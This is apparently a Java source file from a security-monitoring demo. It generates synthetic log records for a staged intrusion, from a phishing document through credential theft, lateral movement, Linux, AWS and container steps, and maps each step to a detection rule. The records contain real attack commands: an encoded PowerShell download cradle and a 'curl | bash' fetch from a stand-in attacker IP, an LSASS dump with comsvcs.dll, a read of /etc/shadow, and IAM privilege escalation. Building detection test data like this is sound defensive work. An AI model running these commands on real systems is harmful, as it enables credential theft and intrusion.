package io.marsad.server.demo;

import io.marsad.server.demo.Records.Launch;
import io.marsad.server.demo.Records.Record;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * The story: a freight company's clerk opens a document, and from there it goes to credentials, the file server, the
 * cloud account and a container. Each step names the rule file that has to catch it.
 */
final class Intrusion {
    private static final String WORKSTATION = "WKS-014.halden.example";
    private static final String FILE_SERVER = "FS-01.halden.example";
    private static final String CLERK = "HALDEN\\l.berg";
    private static final String ATTACKER = "203.0.113.50";
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";

    private final Records records;
    private final Instant start;
    private final List<Step> steps = new ArrayList<>();

    /**
     * A planted step.
     *
     * @param rule the rule file, below {@code content/rules}, without its ending
     */
    record Step(String name, String rule, List<Record> records) {}

    private Intrusion(Records records, Instant start) {
        this.records = records;
        this.start = start;
    }

    /** The steps over the ten minutes that begin at the start. */
    static List<Step> steps(Records records, Instant start) {
        var intrusion = new Intrusion(records, start);
        intrusion.phishing();
        intrusion.persistence();
        intrusion.credentials();
        intrusion.passwordGuessing();
        intrusion.lateralMovement();
        intrusion.linux();
        intrusion.cloud();
        intrusion.container();
        return List.copyOf(intrusion.steps);
    }

    private Instant at(int seconds) {
        return start.plus(Duration.ofSeconds(seconds));
    }

    private void step(String name, String rule, Record... of) {
        var marked = new ArrayList<Record>();
        for (Record record : of) {
            marked.add(record.of(name));
        }
        steps.add(new Step(name, rule, List.copyOf(marked)));
    }

    private void phishing() {
        var document = "\"" + WORD + "\" /n \"C:\\Users\\l.berg\\Downloads\\Freight invoice 88213.docm\"";
        var cradle = "IEX (New-Object Net.WebClient).DownloadString('http://" + ATTACKER + "/s.ps1')";
        var encoded = Base64.getEncoder().encodeToString(cradle.getBytes(StandardCharsets.UTF_16LE));
        step(
                "a document starts a command prompt",
                "windows/process_creation/office-starts-shell",
                records.process(
                        at(20),
                        WORKSTATION,
                        CLERK,
                        new Launch(SYSTEM32 + "cmd.exe", "cmd.exe /c start /min powershell", WORD, document)));
        step(
                "PowerShell runs an encoded command",
                "windows/process_creation/powershell-encoded-command",
                records.process(
                        at(22),
                        WORKSTATION,
                        CLERK,
                        new Launch(
                                POWERSHELL,
                                "powershell.exe -NoP -W Hidden -Enc " + encoded,
                                SYSTEM32 + "cmd.exe",
                                "cmd.exe /c start /min powershell")));
        step(
                "the decoded script downloads code",
                "windows/powershell/download-and-execute",
                records.windows(
                        at(23),
                        WORKSTATION,
                        "Microsoft-Windows-PowerShell",
                        "Microsoft-Windows-PowerShell/Operational",
                        4104,
                        Records.map(
                                "MessageNumber",
                                1,
                                "MessageTotal",
                                1,
                                "ScriptBlockText",
                                cradle,
                                "ScriptBlockId",
                                records.guid(),
                                "Path",
                                "")));
    }

    private void persistence() {
        step(
                "a program start is registered in the user's folder",
                "windows/registry_set/run-key-user-folder",
                records.sysmon(
                        at(41),
                        WORKSTATION,
                        13,
                        "EventType",
                        "SetValue",
                        "ProcessGuid",
                        records.guid(),
                        "ProcessId",
                        7004,
                        "Image",
                        POWERSHELL,
                        "TargetObject",
                        "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneSync",
                        "Details",
                        "C:\\Users\\l.berg\\AppData\\Roaming\\sync.exe",
                        "User",
                        CLERK));
    }

    private void credentials() {
        step(
                "LSASS is opened for reading",
                "windows/process_access/lsass-opened",
                records.sysmon(
                        at(95),
                        WORKSTATION,
                        10,
                        "SourceProcessGUID",
                        records.guid(),
                        "SourceProcessId",
                        5120,
                        "SourceThreadId",
                        77,
                        "SourceImage",
                        "C:\\Users\\l.berg\\AppData\\Roaming\\sync.exe",
                        "TargetProcessGUID",
                        records.guid(),
                        "TargetProcessId",
                        652,
                        "TargetImage",
                        SYSTEM32 + "lsass.exe",
                        "GrantedAccess",
                        "0x1010",
                        "CallTrace",
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(0000017C)",
                        "SourceUser",
                        CLERK,
                        "TargetUser",
                        "NT AUTHORITY\\SYSTEM"));
        step(
                "LSASS is dumped with comsvcs.dll",
                "windows/process_creation/lsass-dump-comsvcs",
                records.process(
                        at(120),
                        WORKSTATION,
                        "NT AUTHORITY\\SYSTEM",
                        new Launch(
                                SYSTEM32 + "rundll32.exe",
                                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\m.dmp full",
                                POWERSHELL,
                                "powershell.exe")));
    }

    private void passwordGuessing() {
        var guesses = new Record[12];
        for (int i = 0; i < guesses.length; i++) {
            guesses[i] = records.security(
                    at(180 + i * 8),
                    FILE_SERVER,
                    4625,
                    "SubjectUserSid",
                    "S-1-0-0",
                    "SubjectUserName",
                    "-",
                    "SubjectDomainName",
                    "-",
                    "SubjectLogonId",
                    "0x0",
                    "TargetUserSid",
                    "S-1-0-0",
                    "TargetUserName",
                    "svc_backup",
                    "TargetDomainName",
                    "HALDEN",
                    "Status",
                    "0xc000006d",
                    "FailureReason",
                    "%%2313",
                    "SubStatus",
                    "0xc000006a",
                    "LogonType",
                    3,
                    "LogonProcessName",
                    "NtLmSsp ",
                    "AuthenticationPackageName",
                    "NTLM",
                    "WorkstationName",
                    "WKS-014",
                    "IpAddress",
                    "10.20.4.14",
                    "IpPort",
                    String.valueOf(50_200 + i));
        }
        step("a service account's password is guessed", "identity/failed-login-threshold", guesses);
    }

    private void lateralMovement() {
        step(
                "a command is run on the file server through WMI",
                "windows/process_creation/wmic-remote-process",
                records.process(
                        at(300),
                        WORKSTATION,
                        CLERK,
                        new Launch(
                                SYSTEM32 + "wbem\\WMIC.exe",
                                "wmic /node:FS-01 /user:HALDEN\\svc_backup process call create \"cmd.exe /c net use\"",
                                POWERSHELL,
                                "powershell.exe")));
        step(
                "PsExec's service appears on the file server",
                "windows/system/psexec-service",
                records.windows(
                        at(318),
                        FILE_SERVER,
                        "Service Control Manager",
                        "System",
                        7045,
                        Records.map(
                                "ServiceName",
                                "PSEXESVC",
                                "ImagePath",
                                "%SystemRoot%\\PSEXESVC.exe",
                                "ServiceType",
                                "user mode service",
                                "StartType",
                                "demand start",
                                "AccountName",
                                "LocalSystem")));
        step(
                "the file server's security log is cleared",
                "windows/security/log-cleared",
                records.security(
                        at(365),
                        FILE_SERVER,
                        1102,
                        "SubjectUserSid",
                        "S-1-5-21-1004336348-1177238915-682003330-1120",
                        "SubjectUserName",
                        "svc_backup",
                        "SubjectDomainName",
                        "HALDEN",
                        "SubjectLogonId",
                        "0x5f2a1"));
    }

    private void linux() {
        step(
                "root logs in to the web server with a password",
                "linux/auth/sshd-root-password-login",
                records.syslog(
                        at(400), "web-07", "sshd", "Accepted password for root from " + ATTACKER + " port 51234 ssh2"));
        step(
                "a download is piped into a shell",
                "linux/process_creation/download-piped-to-shell",
                records.execve(
                        at(412), 0, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://" + ATTACKER + "/i.sh | bash"));
        step(
                "password hashes are read on the web server",
                "linux/process_creation/shadow-read",
                records.execve(at(420), 0, "/usr/bin/cat", "cat", "/etc/shadow"));
    }

    private void cloud() {
        step(
                "an access key is made for another user",
                "cloud/aws/access-key-for-another-user",
                records.cloudTrail(
                        at(455),
                        "iam.amazonaws.com",
                        "CreateAccessKey",
                        "build-bot",
                        ATTACKER,
                        "requestParameters",
                        Records.map("userName", "svc-billing"),
                        "responseElements",
                        Records.map("accessKey", Records.map("userName", "svc-billing", "status", "Active"))));
        step(
                "administrator rights are given",
                "cloud/aws/administrator-policy-attached",
                records.cloudTrail(
                        at(470),
                        "iam.amazonaws.com",
                        "AttachUserPolicy",
                        "build-bot",
                        ATTACKER,
                        "requestParameters",
                        Records.map(
                                "userName",
                                "svc-billing",
                                "policyArn",
                                "arn:aws:iam::aws:policy/AdministratorAccess")));
        step(
                "the trail is stopped",
                "cloud/aws/cloudtrail-stopped",
                records.cloudTrail(
                        at(482),
                        "cloudtrail.amazonaws.com",
                        "StopLogging",
                        "build-bot",
                        ATTACKER,
                        "requestParameters",
                        Records.map("name", "main-trail")));
    }

    private void container() {
        step(
                "a shell opens in a container",
                "containers/falco/shell-in-container",
                records.falco(at(520), "Terminal shell in container", "Notice", "bash", "bash -i"));
        step(
                "a program that is not in the image runs",
                "containers/falco/new-binary-executed",
                records.falco(
                        at(548), "Drop and execute new binary in container", "Critical", "xm", "/tmp/xm -o pool:3333"));
    }
}
